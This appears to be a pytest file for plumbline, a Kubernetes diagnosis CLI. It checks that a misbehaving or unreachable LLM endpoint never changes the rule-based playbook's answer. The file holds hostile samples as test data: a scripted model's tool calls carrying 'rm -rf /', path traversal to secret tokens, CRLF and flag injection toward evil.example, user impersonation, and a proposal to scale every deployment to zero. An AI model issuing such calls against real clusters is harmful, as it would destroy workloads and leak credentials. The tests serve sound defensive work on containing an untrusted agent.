"""Whatever is wrong with a model, its key, its address or its words: the playbook answers, and one line says why."""

from __future__ import annotations

import asyncio
import shutil
import ssl
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from agent.llm import failures
from evals.servers.model.script import ScriptedCall, ScriptedReply, Wire
from tests.cli.conftest import QUESTION, Command, Done
from tests.cli.models import KEY, Endpoint, flags, model_at
from tests.cli.test_unwilling_servers import closed_port
from tools.types import JsonObject

__all__ = ["model_at"]
WORLD = ("--world", "hpa-cpu", "-o", "json", QUESTION)
JUDGED = ("status", "findings", "ruledOut", "missing", "narrative")
"""What no model, whatever it does, may change."""
_plain: dict[str, Done] = {}


@pytest.fixture(autouse=True)
def impatient(monkeypatch: pytest.MonkeyPatch) -> None:
    """A model is waited for as short as can be set."""
    monkeypatch.setenv("PLUMBLINE_MODEL_TIMEOUT", "1s")


@pytest.fixture
def alone(plumbline: Command) -> JsonObject:
    """The answer without any model."""
    if not _plain:
        _plain["answer"] = plumbline("ask", "--reasoner", "playbook", *WORLD)
    return _plain["answer"].json


def held(done: Done, alone: JsonObject, *said: str, executed: bool = False) -> None:
    """Exit code 0, the playbook's answer unchanged, and one note with these words; no request beyond its own."""
    assert done.code == 0, done.err
    body = done.json
    assert {name: body[name] for name in JUDGED} == {name: alone[name] for name in JUDGED}
    assert body["reasoner"] == "playbook"
    notes = body["notes"]
    assert isinstance(notes, list)
    assert [note for note in notes if all(word in str(note) for word in said)], notes
    assert done.err.count("\n") <= 1
    assert KEY not in done.out + done.err
    usage, plain = body["usage"], alone["usage"]
    assert isinstance(usage, dict)
    assert isinstance(plain, dict)
    assert executed or usage["requests"] == plain["requests"]


# --- the settings ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("given", "said"),
    [
        (("--model", " "), "no model is named"),
        (("--reasoner", "llm"), "no model is named"),
        (flags("http://models.example/v1"), "plain HTTP to models.example"),
        (flags("ftp://models.example/v1"), "not an http:// or https:// URL"),
        (flags("https://me:secret@models.example/v1"), "user name or password"),
        (flags("https://models.example/v1?key=1"), "query or a fragment"),
        (flags("http://169.254.169.254/v1"), "never asked"),
        (flags("not a url"), "not an http:// or https:// URL"),
        (("--reasoner", "playbook", "--model", "m"), "contradict"),
    ],
    ids=lambda value: value if isinstance(value, str) else None,
)
@pytest.mark.parametrize("command", ["ask", "eval"])
def test_settings_that_can_never_work(plumbline: Command, command: str, given: tuple[str, ...], said: str) -> None:
    rest = WORLD if command == "ask" else ("hpa-cpu",)
    done = plumbline(command, *given, *rest)
    assert done.code == 2
    assert said in done.line
    assert not done.out
    assert "secret" not in done.err


@pytest.mark.parametrize(
    ("variable", "value", "said"),
    [
        ("PLUMBLINE_MODEL_KEY", "two\nlines", "line breaks in the key"),
        ("PLUMBLINE_MODEL_COST", "0.5", "no price for scripted"),
        ("PLUMBLINE_MODEL_WINDOW", "100", "model_window"),
        ("PLUMBLINE_MODEL_TIMEOUT", "soon", "not a duration"),
    ],
)
def test_variables_that_can_never_work(
    plumbline: Command, monkeypatch: pytest.MonkeyPatch, variable: str, value: str, said: str
) -> None:
    monkeypatch.setenv(variable, value)
    done = plumbline("ask", *flags("http://127.0.0.1:9/v1"), *WORLD)
    assert done.code == 2
    assert said in done.line


# --- the endpoint ------------------------------------------------------------------------------------------


def test_a_wrong_key(plumbline: Command, model_at: Endpoint, alone: JsonObject) -> None:
    server = model_at(ScriptedReply(text="hello"), key="another")
    held(plumbline("ask", *flags(server.url), *WORLD), alone, "refuses the key (status 401)", "check the key")
    assert server.requests == []


def test_a_wrong_model_name(plumbline: Command, model_at: Endpoint, alone: JsonObject) -> None:
    server = model_at(ScriptedReply(text="hello"))
    held(plumbline("ask", *flags(server.url, "nosuch"), *WORLD), alone, "has no model 'nosuch'")


def test_a_port_where_nobody_listens(plumbline: Command, model_at: Endpoint, alone: JsonObject) -> None:
    done = plumbline("ask", *flags(f"http://127.0.0.1:{closed_port()}/v1"), *WORLD)
    held(done, alone, "refuses connections", "is the endpoint running?")


def test_a_path_without_its_v1(plumbline: Command, model_at: Endpoint, alone: JsonObject) -> None:
    server = model_at(ScriptedReply(text="hello"))
    held(plumbline("ask", *flags(server.url.removesuffix("/v1")), *WORLD), alone, "usually ends in /v1")


REPLIES = {
    "a login page": (Wire(body=b"<html>log in</html>", content_type="text/html"), "HTML page"),
    "never an answer": (Wire(hang=True), "no whole reply within 1 s"),
    "one token a minute": (Wire(drip=60.0), "no whole reply within 1 s"),
    "silence in the middle": (Wire(hang_after=200), "no whole reply within 1 s"),
    "a stream that is cut": (Wire(cut=150), "the model could not be used"),
    "server errors": (Wire(status=500), "status 500"),
    "slow down": (Wire(status=429, headers={"Retry-After": "600"}), "asks to wait 600 s"),
    "a redirect": (Wire(redirect="http://169.254.169.254/latest"), "the model could not be used"),
    "no UTF-8": (Wire(body=b'{"choices":[{"message":{"content":"\xff\xfe"}}]}'), "nothing that the evidence holds"),
    "no JSON": (Wire(body=b"\x00\x01\x02"), "the model could not be used"),
    "no choice": (Wire(choices=False), "the model could not be used"),
}


@pytest.mark.parametrize("name", REPLIES)
def test_an_endpoint_that_fails(plumbline: Command, model_at: Endpoint, alone: JsonObject, name: str) -> None:
    wire, said = REPLIES[name]
    server = model_at(ScriptedReply(text=["some", " words", " of", " an", " answer"], wire=wire))
    held(plumbline("ask", *flags(server.url), *WORLD), alone, said)


@contextmanager
def over_tls(folder: Path) -> Iterator[str]:
    """A server on loopback with a certificate that it signed itself."""
    where = ("-keyout", "key.pem", "-out", "cert.pem", "-days", "1", "-subj", "/CN=test")
    command = ("openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", *where)
    subprocess.run([*command, "-addext", "subjectAltName=IP:127.0.0.1"], cwd=folder, check=True, capture_output=True)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(folder / "cert.pem", folder / "key.pem")
    loop = asyncio.new_event_loop()
    thread = threading.Thread(target=loop.run_forever, daemon=True)
    thread.start()

    async def ignore(_reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.close()

    async def begin() -> asyncio.Server:
        return await asyncio.start_server(ignore, "127.0.0.1", 0, ssl=context)

    server = asyncio.run_coroutine_threadsafe(begin(), loop).result(10)
    try:
        yield f"https://127.0.0.1:{server.sockets[0].getsockname()[1]}/v1"
    finally:
        loop.call_soon_threadsafe(server.close)
        loop.call_soon_threadsafe(loop.stop)
        thread.join(10)
        loop.close()


@pytest.mark.skipif(shutil.which("openssl") is None, reason="openssl makes the certificate")
def test_a_certificate_that_nobody_trusts(plumbline: Command, tmp_path: Path, alone: JsonObject) -> None:
    with over_tls(tmp_path) as url:
        held(plumbline("ask", *flags(url), *WORLD), alone, "certificate problem", failures._CA)


def test_https_where_plain_http_is_spoken(plumbline: Command, model_at: Endpoint, alone: JsonObject) -> None:
    server = model_at(ScriptedReply(text="hello"))
    done = plumbline("ask", *flags(server.url.replace("http:", "https:")), *WORLD)
    held(done, alone, "TLS failed", "is the endpoint plain HTTP?")


# --- the words ---------------------------------------------------------------------------------------------

MEGABYTE = 1 << 20


@pytest.mark.parametrize(
    ("reply", "said"),
    [
        (ScriptedReply(), "answered with nothing"),
        (ScriptedReply(refusal="I cannot help with that."), "refused to answer"),
        (ScriptedReply(text="I'm sorry, I can't help with that."), "nothing that the evidence holds"),
        (ScriptedReply(text="word " * (MEGABYTE // 5), usage=None), "tokens of this question are used"),
        (ScriptedReply(calls=(ScriptedCall("answer", "x" * (MEGABYTE + 1)),)), "larger than 1 MiB"),
        (ScriptedReply(calls=(ScriptedCall("kubectl_exec", {"command": "rm -rf /"}),)), "the model could not be used"),
        (ScriptedReply(calls=(ScriptedCall("answer", '{"claims": ['),)), "the model could not be used"),
    ],
    ids=["nothing", "a refusal", "a refusal in words", "a megabyte", "a megabyte of arguments", "unknown", "cut"],
)
def test_a_reply_that_is_no_answer(
    plumbline: Command, model_at: Endpoint, alone: JsonObject, reply: ScriptedReply, said: str
) -> None:
    server = model_at(reply)
    held(plumbline("ask", *flags(server.url), *WORLD), alone, said)
    assert len(server.requests) <= 4


def test_a_hundred_calls_at_once(plumbline: Command, model_at: Endpoint, alone: JsonObject) -> None:
    calls = tuple(ScriptedCall("list_objects", {"kind": "Pod", "label_selector": f"app=n{n}"}) for n in range(100))
    done = plumbline("ask", *flags(model_at(ScriptedReply(calls=calls)).url), *WORLD)
    held(done, alone, "the model could not be used", executed=True)
    usage, plain = done.json["usage"], alone["usage"]
    assert isinstance(usage, dict)
    assert isinstance(plain, dict)
    assert int(str(usage["calls"])) - int(str(plain["calls"])) <= 8


HOSTILE: dict[str, tuple[str, JsonObject]] = {
    "a host": ("list_objects", {"kind": "Pod", "host": "evil.example"}),
    "a URL": ("list_objects", {"kind": "Pod", "namespace": "http://evil.example/"}),
    "headers": ("get_object", {"kind": "Pod", "name": "a", "headers": {"Impersonate-User": "admin"}}),
    "a flag": ("get_object", {"kind": "Pod", "namespace": "search", "name": "--server=http://evil.example"}),
    "another flag": ("get_object", {"kind": "Pod", "namespace": "search", "name": "--server=evil"}),
    "a path": ("get_object", {"kind": "Pod", "namespace": "../kube-system", "name": "../../secrets/token"}),
    "a line break": ("get_object", {"kind": "Pod", "namespace": "search", "name": "x\r\nHost: evil.example"}),
    "an encoded path": ("pod_logs", {"namespace": "search", "pod": "..%2f..%2fsecrets%2ftoken"}),
    "a secret": ("list_objects", {"kind": "Secret"}),
    "a selector of everything": ("list_objects", {"kind": "Pod", "label_selector": "*"}),
    "a selector that injects": ("list_objects", {"kind": "Pod", "label_selector": "a=b&watch=true"}),
    "every series": ("promql", {"query": '{__name__=~".+"}'}),
    "a change": ("delete_object", {"kind": "Pod", "name": "chat"}),
    "a change of everything": (
        "propose_change",
        {
            "change": "scale",
            "args": {"group": "apps", "kind": "Deployment", "namespace": "*", "name": "*", "replicas": 0},
            "because": "all of it",
            "cites": ["E1", "E2"],
        },
    ),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_arguments_that_reach_for_more(plumbline: Command, model_at: Endpoint, alone: JsonObject, name: str) -> None:
    tool, arguments = HOSTILE[name]
    server = model_at(ScriptedReply(calls=(ScriptedCall(tool, arguments),)))
    done = plumbline("ask", *flags(server.url), *WORLD)
    held(done, alone, "the model could not be used")
    assert "drafts" not in done.json
    assert "evil.example" not in done.out + done.err
    assert plumbline("proposals", "-o", "json").json["items"] == []
    assert plumbline("audit", "verify").code == 0
